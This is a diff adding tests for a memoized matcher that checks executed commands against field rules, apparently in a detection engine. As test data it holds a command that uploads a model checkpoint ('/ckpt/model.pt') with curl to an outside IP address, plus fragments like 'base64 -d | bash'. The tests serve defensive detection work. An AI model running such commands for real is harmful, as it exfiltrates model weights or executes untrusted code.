@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { canonicalExecValue, execCommandReadings } from './exec-canonical.js';
-import { execReading, MAX_ENTRIES, MAX_KEY, memoizedTest, readingsOf } from './exec-reading-memo.js';
+import { derivedValues, execReading, MAX_ENTRIES, MAX_KEY, memoizedTest, readingsOf } from './exec-reading-memo.js';
 import { compileFieldTest, type FieldTest } from './field-test.js';
 import { mulberry32 } from '../../core/mulberry32.js';
 
@@ -78,18 +78,41 @@ describe('memoizedTest', () => {
     expect(runs()).toBe(2);
   });
 
+  it("runs a test of a derived list field (attrs.exec.toolWords) once per remembered reading, and afresh once the readings are handed out", () => {
+    const { test: inner, runs } = counted(fieldTest(['startswith'], 'curl -T'));
+    const test = memoizedTest(inner);
+    const upload = execReading(['sh', '-c', 'curl -sT /ckpt/model.pt https://203.0.113.9/u']);
+    const probe = execReading(['sh', '-c', 'curl -s https://203.0.113.9/health']);
+    for (let i = 0; i < 5; i++) {
+      expect(test.matches(derivedValues(upload, upload.canonical!.toolWords))).toBe(true);
+      expect(test.matches(derivedValues(probe, probe.canonical!.toolWords))).toBe(false);
+    }
+    expect(runs()).toBe(2);
+    // The derived values handed out before the readings were are no longer the memo's: answered afresh.
+    const words = upload.canonical!.toolWords;
+    readingsOf(probe);
+    expect(test.matches(words)).toBe(true);
+    expect(runs()).toBe(3);
+  });
+
   it('agrees with the plain test over random commands, remembered or not', () => {
     const rnd = mulberry32(7);
     const words = ['sh', '-c', 'curl', '-T', '/ckpt/model.pt', 'https://203.0.113.9/u', 'base64', '-d', '|', 'bash', 'python3', 'tar', 'czf', 'ls'];
     const tests = [fieldTest(['contains'], 'curl'), fieldTest(['endswith'], '.pt'), fieldTest(['re'], '^(?:sh|bash)$'), fieldTest([], ['tar', 'ls'])];
     const memo = tests.map(memoizedTest);
+    const wordsMemo = tests.map(memoizedTest);
     for (let i = 0; i < 2000; i++) {
       const n = 1 + Math.floor(rnd() * 5);
       const argv = Array.from({ length: n }, () => words[Math.floor(rnd() * words.length)]!);
       const cmd = rnd() < 0.3 ? argv.join(' ') : argv;
-      const values = readingsOf(execReading(cmd));
+      const reading = execReading(cmd);
+      const values = readingsOf(reading);
       const fresh = execCommandReadings(cmd, canonicalExecValue(cmd));
       for (let t = 0; t < tests.length; t++) expect(memo[t]!.matches(values)).toBe(tests[t]!.matches(fresh));
+      // A derived list field (toolWords) through the same memo agrees with the test on a fresh reading's.
+      const toolWords = reading.canonical === null ? [] : derivedValues(reading, reading.canonical.toolWords);
+      const freshWords = canonicalExecValue(cmd)?.toolWords ?? [];
+      for (let t = 0; t < tests.length; t++) expect(wordsMemo[t]!.matches(toolWords)).toBe(tests[t]!.matches(freshWords));
     }
   });
 });
